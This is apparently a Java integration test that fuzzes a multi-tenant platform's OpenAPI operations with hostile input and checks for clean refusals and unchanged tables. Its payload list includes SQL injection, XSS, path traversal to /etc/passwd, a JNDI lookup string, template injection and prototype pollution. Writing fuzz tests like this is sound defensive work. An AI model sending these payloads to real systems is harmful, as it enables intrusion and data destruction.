package it.ponte.it;

import static org.assertj.core.api.Assertions.assertThat;

import it.ponte.it.Platform.Answer;
import jakarta.json.JsonArray;
import jakarta.json.JsonObject;
import jakarta.json.JsonValue;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpRequest;
import java.nio.charset.StandardCharsets;
import java.sql.Connection;
import java.sql.ResultSet;
import java.sql.Statement;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/**
 * Calls every operation of the live OpenAPI document, the plugins' included, with hostile input
 * derived from its schema: wrong types, nulls, empty and huge strings, unicode edge cases, numbers
 * out of range, negative and zero ids, impossible dates, injection strings, extra and missing
 * fields, wrong content types, malformed JSON, path parameters of every shape. No answer may be a
 * 5xx, every refusal is a problem document, and a territory's tables hold the same rows afterwards
 * (but the audit trail, which records the reads that answered). The seed and the budget are fixed
 * ({@code ponte.fuzz.seed}, {@code ponte.fuzz.requests}; {@code -Pfuzz} raises the budget).
 */
@ExtendWith(PlatformExtension.class)
class FuzzIT {

  private static final long SEED = Long.getLong("ponte.fuzz.seed", 20261202L);
  private static final int BUDGET = Integer.getInteger("ponte.fuzz.requests", 2500);

  /** Strings no field should take without a clear refusal. */
  private static final List<String> HOSTILE =
      List.of(
          "",
          " ",
          "0",
          "-1",
          "2147483648",
          "-9223372036854775809",
          "1e309",
          "NaN",
          "null",
          "true",
          "'; DROP TABLE candidate; --",
          "\" OR 1=1 --",
          "<script>alert(1)</script>",
          "../../../etc/passwd",
          "%00",
          "\u0000",
          "\uD800",
          "\uFEFF",
          "🙂🙂🙂",
          "Ω≈ç√∫˜µ≤≥÷",
          "2026-02-30",
          "0000-00-00",
          "9999-12-31T23:59:59Z",
          "-999999999-01-01",
          "${jndi:ldap://x/a}",
          "{{7*7}}",
          "a".repeat(5000));

  private static final List<String> MALFORMED =
      List.of(
          "{",
          "}",
          "[]",
          "null",
          "\"text\"",
          "42",
          "{\"a\":",
          "{\"a\": undefined}",
          "{'single': 'quotes'}",
          "[".repeat(2000) + "]".repeat(2000),
          "{\"x\": " + "1".repeat(400) + "}",
          "\u0000\u0001\u0002");

  private static final List<String> CONTENT_TYPES =
      List.of("text/plain", "application/xml", "application/x-www-form-urlencoded", "image/png");

  private record Operation(String method, String template, JsonObject spec) {}

  private record Failure(String request, int status, String contentType, String body) {}

  @Test
  void noHostileInputMakesTheServerFailOrWrite(Platform platform) throws Exception {
    String tenant = platform.onboardNewTenant("03");
    for (String plugin : List.of("microcredit", "innovation-calls", "dote-unica-lavoro")) {
      platform
          .asAdminOf(tenant)
          .send("PUT", "/api/t/" + tenant + "/plugins/" + plugin, "{}", "application/json");
    }
    JsonObject document =
        platform.withToken(null).send("GET", "/openapi?format=JSON", null, null).json();
    JsonObject schemas =
        document.getJsonObject("components") == null
            ? JsonValue.EMPTY_JSON_OBJECT
            : document.getJsonObject("components").getJsonObject("schemas");
    List<Operation> operations = new ArrayList<>();
    for (Map.Entry<String, JsonValue> path : document.getJsonObject("paths").entrySet()) {
      for (Map.Entry<String, JsonValue> op : path.getValue().asJsonObject().entrySet()) {
        if (List.of("get", "post", "put", "patch", "delete").contains(op.getKey())) {
          operations.add(
              new Operation(
                  op.getKey().toUpperCase(Locale.ROOT),
                  path.getKey(),
                  op.getValue().asJsonObject()));
        }
      }
    }
    assertThat(operations).hasSizeGreaterThan(50);
    Map<String, Long> before = rows(platform, tenant);

    Random random = new Random(SEED);
    List<Failure> failures = new ArrayList<>();
    Map<String, Integer> statuses = new TreeMap<>();
    List<String> written = new ArrayList<>();
    int sent = 0;
    int perOperation = Math.max(1, BUDGET / operations.size());
    for (Operation op : operations) {
      for (int i = 0; i < perOperation; i++) {
        HttpRequest request = hostile(platform, op, tenant, schemas, random, i);
        Answer answer = send(request);
        sent++;
        statuses.merge(answer.status() / 100 + "xx", 1, Integer::sum);
        String summary =
            op.method()
                + " "
                + request.uri().getRawPath()
                + (request.uri().getRawQuery() == null
                    ? ""
                    : "?" + abbreviate(request.uri().getRawQuery()));
        boolean problem =
            answer.contentType() != null
                && answer.contentType().startsWith("application/problem+json");
        if (answer.status() >= 500 || (answer.status() >= 400 && !problem)) {
          failures.add(
              new Failure(
                  summary, answer.status(), answer.contentType(), abbreviate(answer.body())));
        }
        if (answer.status() < 300 && !op.method().equals("GET")) {
          written.add(summary + " -> " + answer.status());
        }
      }
    }
    System.out.printf(
        "Fuzzing: %d requests, %d operations, seed %d, answers %s%n",
        sent, operations.size(), SEED, statuses);
    assertThat(failures).as("5xx answers or refusals that are not problem documents").isEmpty();
    assertThat(written).as("hostile writes that were accepted").isEmpty();
    assertThat(rows(platform, tenant)).as("rows of the territory's tables").isEqualTo(before);
  }

  /**
   * Fuzz requests go on a client of their own, over HTTP/1.1: an HTTP/2 connection whose header
   * compression a huge header upset would answer the other tests' requests with 431.
   */
  private final java.net.http.HttpClient http =
      java.net.http.HttpClient.newBuilder()
          .version(java.net.http.HttpClient.Version.HTTP_1_1)
          .connectTimeout(Duration.ofSeconds(5))
          .build();

  private Answer send(HttpRequest request) {
    try {
      var response = http.send(request, java.net.http.HttpResponse.BodyHandlers.ofString());
      return new Answer(
          response.statusCode(),
          response.headers().firstValue("Content-Type").orElse(""),
          response.body(),
          response);
    } catch (java.io.IOException e) {
      throw new IllegalStateException(request.method() + " " + request.uri() + " failed", e);
    } catch (InterruptedException e) {
      Thread.currentThread().interrupt();
      throw new IllegalStateException(e);
    }
  }

  /**
   * A hostile value for a path or query parameter: the same list, the huge string cut to 1,000
   * characters - a request line of several kilobytes is refused by the HTTP server itself (and over
   * HTTP/2 a header block that large resets the stream), before the platform sees it.
   */
  private static String parameter(Random random) {
    String value = pick(random);
    return value.length() > 1000 ? value.substring(0, 1000) : value;
  }

  private HttpRequest hostile(
      Platform platform,
      Operation op,
      String tenant,
      JsonObject schemas,
      Random random,
      int round) {
    String path = op.template().replace("{tenant}", tenant);
    StringBuilder query = new StringBuilder();
    JsonArray parameters = op.spec().getJsonArray("parameters");
    if (parameters != null) {
      for (JsonValue p : parameters) {
        JsonObject param = p.asJsonObject();
        String name = param.getString("name");
        String in = param.getString("in", "");
        if (name.equals("tenant")) {
          continue;
        }
        String value = parameter(random);
        if (in.equals("path")) {
          // A NUL byte in the path is refused by the HTTP server itself (a bare 400), before the
          // platform sees the request: in a path it is sent as the text %00 instead.
          value = value.replace("\u0000", "%00");
          path =
              path.replace(
                  "{" + name + "}",
                  URLEncoder.encode(value.isEmpty() ? "0" : value, StandardCharsets.UTF_8)
                      .replace("+", "%20"));
        } else if (in.equals("query") && random.nextInt(3) > 0) {
          query
              .append(query.length() == 0 ? "" : "&")
              .append(URLEncoder.encode(name, StandardCharsets.UTF_8))
              .append('=')
              .append(URLEncoder.encode(value, StandardCharsets.UTF_8));
        }
      }
    }
    path = path.replaceAll("\\{[^}]+}", "-1");
    String uri = platform.baseUrl() + path + (query.length() == 0 ? "" : "?" + query);
    HttpRequest.Builder request =
        HttpRequest.newBuilder(URI.create(uri))
            .timeout(Duration.ofSeconds(60))
            .header(
                "Authorization",
                "Bearer " + platform.token(caller(platform, op.template(), tenant)));
    String body = null;
    String type = "application/json";
    if (!op.method().equals("GET") && !op.method().equals("DELETE")) {
      JsonObject schema = bodySchema(op.spec());
      switch (round % 4) {
        case 0 -> body = MALFORMED.get(random.nextInt(MALFORMED.size()));
        case 1 -> {
          body =
              schema == null
                  ? "{\"unexpected\": " + json(pick(random)) + "}"
                  : object(schema, schemas, random, true);
          type = CONTENT_TYPES.get(random.nextInt(CONTENT_TYPES.size()));
        }
        default ->
            body =
                schema == null
                    ? "{\"unexpected\": " + json(pick(random)) + "}"
                    : object(schema, schemas, random, false);
      }
    }
    if (body != null) {
      request.header("Content-Type", type);
    }
    request.method(
        op.method(),
        body == null
            ? HttpRequest.BodyPublishers.noBody()
            : HttpRequest.BodyPublishers.ofString(body));
    return request.build();
  }

  /** The user natural for the path: the territory's admin, the platform admin, the analyst. */
  private static String caller(Platform platform, String template, String tenant) {
    if (template.startsWith("/api/t/")) {
      return platform.adminOf(tenant);
    }
    if (template.startsWith("/api/federation")) {
      return "analyst";
    }
    return "platform.admin";
  }

  private static JsonObject bodySchema(JsonObject spec) {
    JsonObject body = spec.getJsonObject("requestBody");
    if (body == null || body.getJsonObject("content") == null) {
      return null;
    }
    JsonObject content = body.getJsonObject("content");
    JsonObject json = content.getJsonObject("application/json");
    return json == null ? null : json.getJsonObject("schema");
  }

  /**
   * A body for the schema, every field hostile: the required ones sometimes left out, a field
   * sometimes of the wrong type or null, an unknown one added; always at least one field wrong.
   */
  private String object(JsonObject schema, JsonObject schemas, Random random, boolean plausible) {
    JsonObject resolved = resolve(schema, schemas);
    JsonObject properties = resolved.getJsonObject("properties");
    if (properties == null || properties.isEmpty()) {
      return "{\"unexpected\": " + json(pick(random)) + "}";
    }
    Map<String, String> fields = new LinkedHashMap<>();
    for (Map.Entry<String, JsonValue> p : properties.entrySet()) {
      int dice = random.nextInt(10);
      if (dice == 0 && !plausible) {
        continue;
      }
      JsonObject field = resolve(p.getValue().asJsonObject(), schemas);
      fields.put(p.getKey(), value(field, random));
    }
    // At least one field surely wrong: a string where the schema wants a number, or the reverse.
    String victim = properties.keySet().iterator().next();
    fields.put(
        victim,
        random.nextBoolean()
            ? "{\"nested\": [" + json(pick(random)) + "]}"
            : json("a".repeat(100_000)));
    fields.put("__proto__", "{\"polluted\": true}");
    StringBuilder body = new StringBuilder("{");
    fields.forEach(
        (k, v) -> body.append(body.length() > 1 ? "," : "").append(json(k)).append(':').append(v));
    return body.append('}').toString();
  }

  private String value(JsonObject field, Random random) {
    String type = field.getString("type", "");
    return switch (random.nextInt(6)) {
      case 0 -> "null";
      case 1 -> json(pick(random));
      case 2 -> type.equals("string") ? String.valueOf(random.nextLong()) : json(pick(random));
      case 3 -> "[" + json(pick(random)) + ", null, 1.5e308]";
      case 4 ->
          type.equals("integer") || type.equals("number") ? "-99999999999999999999999" : "false";
      default -> "{\"deep\": {\"deeper\": " + json(pick(random)) + "}}";
    };
  }

  private static JsonObject resolve(JsonObject schema, JsonObject schemas) {
    JsonObject current = schema;
    for (int i = 0; i < 5 && current.containsKey("$ref"); i++) {
      String ref = current.getString("$ref");
      JsonObject target = schemas.getJsonObject(ref.substring(ref.lastIndexOf('/') + 1));
      if (target == null) {
        return JsonValue.EMPTY_JSON_OBJECT;
      }
      current = target;
    }
    if (current.containsKey("allOf")) {
      return resolve(current.getJsonArray("allOf").getJsonObject(0), schemas);
    }
    return current;
  }

  private static String pick(Random random) {
    return HOSTILE.get(random.nextInt(HOSTILE.size()));
  }

  private static String json(String text) {
    return jakarta.json.Json.createValue(text).toString();
  }

  private static String abbreviate(String text) {
    if (text == null) {
      return null;
    }
    return text.length() > 300 ? text.substring(0, 300) + "..." : text;
  }

  /** The row count of every table of the territory's schema. */
  private static Map<String, Long> rows(Platform platform, String tenant) throws Exception {
    String schema = "t_" + tenant.replace('-', '_');
    Map<String, Long> counts = new TreeMap<>();
    try (Connection db = platform.jdbc();
        Statement s = db.createStatement()) {
      List<String> tables = new ArrayList<>();
      try (ResultSet rs =
          s.executeQuery(
              "SELECT table_name FROM information_schema.tables WHERE table_schema = '"
                  + schema
                  + "' AND table_type = 'BASE TABLE'")) {
        while (rs.next()) {
          tables.add(rs.getString(1));
        }
      }
      for (String table : tables) {
        // Reads are audited (a list shown, an export taken): the trail grows by design.
        if (List.of("databasechangelog", "databasechangeloglock", "audit_entry").contains(table)) {
          continue;
        }
        try (ResultSet rs =
            s.executeQuery("SELECT count(*) FROM " + schema + ".\"" + table + "\"")) {
          rs.next();
          counts.put(table, rs.getLong(1));
        }
      }
    }
    return counts;
  }
}
